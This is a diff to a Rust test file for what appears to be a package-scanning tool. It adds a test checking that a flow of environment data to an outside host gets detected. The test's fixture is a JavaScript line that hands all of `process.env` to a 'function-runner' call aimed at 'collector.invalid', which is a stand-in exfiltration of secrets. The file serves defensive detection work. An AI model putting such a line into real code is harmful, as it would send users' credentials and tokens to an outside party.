@@ -2,7 +2,7 @@
 
 mod samples;
 
-use weir_model::contents::Surface;
+use weir_model::contents::{SourceKind, Surface};
 
 use samples::SAMPLES;
 
@@ -48,6 +48,18 @@ fn samples_are_flagged_without_install_too() {
         }
     }
     assert!(missed.is_empty(), "{missed:?}");
+}
+
+/// An address of this machine does not hide one outside it. `passing` has the one without the other.
+#[test]
+fn a_client_that_nobody_knows_is_told_by_the_address_outside() {
+    let facts = installed(&[(
+        "index.js",
+        "require('function-runner').run({ own: 'http://localhost:9999/f', url: 'https://collector.invalid/f', env: { ...process.env } })",
+    )]);
+    let flow = &facts.flows[0];
+    assert_eq!(flow.source, SourceKind::Environment);
+    assert_eq!(flow.sink_detail, "function-runner.run to collector.invalid");
 }
 
 #[test]
